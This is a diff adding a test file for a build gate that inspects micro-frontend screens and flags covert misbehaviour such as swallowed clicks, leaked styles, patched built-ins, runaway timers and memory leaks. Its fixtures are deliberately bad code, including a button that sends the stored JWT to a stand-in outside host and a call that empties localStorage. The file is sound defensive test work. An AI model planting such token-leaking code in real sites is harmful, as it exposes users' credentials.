@@ -1,0 +1,148 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { GateSamples, GOOD } from './support/gateSamples';
+import { ROOT } from './support/paths';
+import { setUpSharedShop } from './support/setUpShop';
+
+const suite = setUpSharedShop();
+let samples: GateSamples;
+beforeAll(async () => {
+  samples = await GateSamples.open(suite.shop.url);
+});
+afterAll(() => samples.close());
+
+/** What a screen does that nobody sees, what is said of it, and its code. */
+const MISDEEDS: readonly (readonly [misdeed: string, told: RegExp, code: string])[] = [
+  [
+    'swallows every click',
+    /^click: a press on the shop's link to \/order leads nowhere\. Stop no event/,
+    `once(() => addEventListener('click', (event) => { event.stopImmediatePropagation(); event.preventDefault(); }, true)); ${GOOD}`,
+  ],
+  [
+    'leaves a style sheet',
+    /^style: it leaves <style> with "footer \{ color: red; \}" in the page\. Style by `styled`/,
+    `once(() => { const style = document.createElement('style'); document.head.append(style); style.sheet.insertRule('footer { color: red }'); }); ${GOOD}`,
+  ],
+  [
+    'adopts a style sheet',
+    /^style: it leaves 1 in document.adoptedStyleSheets\./,
+    `once(() => { const sheet = new CSSStyleSheet(); sheet.insertRule('.x { top: 0 }'); document.adoptedStyleSheets = [sheet]; }); ${GOOD}`,
+  ],
+  [
+    'leaves an overlay',
+    /^node: it leaves <div#veil> outside of its screen\. Render through the screen/,
+    `once(() => { const veil = document.createElement('div'); veil.id = 'veil'; document.body.append(veil); }); ${GOOD}`,
+  ],
+  [
+    'locks the page where it is',
+    /^page: style of <body> stays "overflow: hidden;", it was ""\. Set it back/,
+    `once(() => { document.body.style.overflow = 'hidden'; }); ${GOOD}`,
+  ],
+  [
+    "styles the shell's elements",
+    /^selector: while it is shown, its rule "footer" styles what is the shell's\. Style what the screen renders/,
+    `React.useLayoutEffect(() => { const style = document.createElement('style'); document.head.append(style); style.sheet.insertRule('footer { color: red }'); return () => style.remove(); }, []); ${GOOD}`,
+  ],
+  [
+    'empties the storage',
+    /^storage: it empties localStorage, which others keep things in, too\. Keep what is/,
+    `once(() => localStorage.clear()); ${GOOD}`,
+  ],
+  [
+    'replaces fetch',
+    /^global: it replaces fetch of window\. Keep it in a module/,
+    `once(() => { const known = fetch; globalThis.fetch = (...given) => known(...given); }); ${GOOD}`,
+  ],
+  [
+    'patches a prototype',
+    /^builtin: it adds Array\.prototype\.last\. Write a function of your own/,
+    `once(() => { Array.prototype.last = function () { return this[this.length - 1]; }; }); ${GOOD}`,
+  ],
+  [
+    'changes JSON',
+    /^builtin: it changes JSON\.parse\./,
+    `once(() => { const known = JSON.parse; JSON.parse = (...given) => known(...given); }); ${GOOD}`,
+  ],
+  [
+    'changes what is shared',
+    /^shared: it changes react\.createElement, which every remote has\. Copy the object/,
+    `once(() => { const known = React.createElement; React.createElement = (...given) => known(...given); }); ${GOOD}`,
+  ],
+  [
+    'overwrites what loads remotes',
+    /^global: it replaces storefrontFederation of window\./,
+    `once(() => { const known = globalThis.storefrontFederation; globalThis.storefrontFederation = (...given) => known(...given); }); ${GOOD}`,
+  ],
+  [
+    'lets an interval run',
+    /^timer: setInterval of 60000 ms goes on after it was left \(remoteEntry\.js:\d+:\d+\)\. Clear it/,
+    `once(() => setInterval(() => 0, 60000)); ${GOOD}`,
+  ],
+  [
+    'sets one timer after the other',
+    /^timer: setTimeout of 5000 ms begins itself again without an end/,
+    `once(() => { const again = async () => { await 0; setTimeout(again, 5000); }; again(); }); ${GOOD}`,
+  ],
+  [
+    'renders without an end',
+    /^busy: it computes while it is shown and nobody does anything: over 30 % of each second\. Give the effect/,
+    `const [count, set] = React.useState(0); React.useEffect(() => { setTimeout(() => set(count + 1)); }); ${GOOD}`,
+  ],
+  [
+    'quarrels over the title',
+    /^title: the title is "쿠폰 도착!" instead of "이용약관 \| /,
+    `once(() => new MutationObserver(() => { if (document.title !== '쿠폰 도착!') document.title = '쿠폰 도착!'; }).observe(document.head, { subtree: true, childList: true, characterData: true })); ${GOOD}`,
+  ],
+  [
+    'throws as it is left',
+    /^cleanup: as it is left, it says: Error: left.*A cleanup has to work/,
+    `React.useEffect(() => () => { throw new Error('left'); }, []); ${GOOD}`,
+  ],
+  [
+    'keeps more with each visit',
+    /^memory: each visit adds \d+ KB that are never given back\. Keep nothing/,
+    `once(() => (globalThis.mf_point_kept ??= []).push(Array.from({ length: 100000 }, (_, index) => index + 0.5))); ${GOOD}`,
+  ],
+  [
+    'leaves a listener',
+    /^listener: it leaves a listener of "scroll" on window \(remoteEntry\.js:\d+:\d+\)\. Take it away/,
+    `once(() => addEventListener('scroll', () => 0)); ${GOOD}`,
+  ],
+  [
+    'goes elsewhere with data at a press',
+    /^origin: after a press, or after it was left, it went to https:\/\/elsewhere\.example\/ with data in it \(\?token=gate\.sample\.token\)/,
+    `return React.createElement('div', null, h1('포인트 충전'), React.createElement('button', { type: 'button', onClick: () => location.assign('https://elsewhere.example/?token=' + localStorage.getItem('jwt')) }, '더보기'));`,
+  ],
+];
+
+describe('a build with a screen that', () => {
+  let found: string[][];
+  beforeAll(async () => {
+    const report = await samples.ask([samples.point(MISDEEDS.map(([, , code]) => code))], samples.live);
+    expect(report.outcome).toBe('failed');
+    found = report.screens.map(({ findings }) => findings.map(({ kind, text }) => `${kind}: ${text}`));
+  });
+
+  // B-gate-2, B-gate-3, B-gate-4, B-gate-5, B-gate-6, B-gate-7
+  it.each(MISDEEDS.map(([misdeed, told], index) => [misdeed, told, index] as const))(
+    '%s does not pass',
+    (_misdeed, told, index) => {
+      expect(found[index]).toEqual(expect.arrayContaining([expect.stringMatching(told)]));
+    },
+  );
+});
+
+// B-gate-1, B-gate-8
+it("finds nothing that the shop's own five remotes leave, even where nothing is live to compare them with", async () => {
+  const { live: registry } = samples;
+  const builds = Object.entries(registry.remotes).map(([name, { live }]) => {
+    const folder = join(ROOT, '.cache/sealed', name, live.version);
+    return { name, folder, record: JSON.parse(readFileSync(join(folder, 'version.json'), 'utf8')) as typeof live };
+  });
+  expect(readdirSync(join(ROOT, '.cache/sealed'))).toEqual(expect.arrayContaining(builds.map(({ name }) => name)));
+  const report = await samples.ask(builds, { ...registry, remotes: {} });
+  expect(
+    report.screens.flatMap(({ path, findings }) => findings.map(({ kind, text }) => `${path} ${kind}: ${text}`)),
+  ).toEqual([]);
+  expect(report.screens.length).toBeGreaterThanOrEqual(15);
+});
